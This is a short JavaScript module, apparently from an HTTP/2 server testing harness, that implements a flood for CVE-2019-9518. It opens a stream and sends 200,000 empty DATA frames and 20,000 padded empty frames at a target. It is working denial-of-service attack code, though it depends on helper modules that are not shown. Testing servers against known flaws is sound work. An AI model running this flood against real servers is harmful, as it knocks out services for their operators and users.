// CVE-2019-9518: DATA frames without data and without end.
import { Flag, frame, Type } from "../../raw/frames.mjs";
import { flood } from "../flood.mjs";

export const name = "empty DATA flood";

export async function attack(target) {
  const first = () => target.request("duplex", 1, { end: false });
  const plain = await flood(target, 200_000, () => frame(Type.DATA, 0, 1), first);
  // Padding makes a frame that carries nothing and still uses window.
  const padded = await flood(target, 20_000, () => frame(Type.DATA, Flag.PADDED, 1, Buffer.of(0)), first);
  return `${plain}; padded: ${padded}`;
}
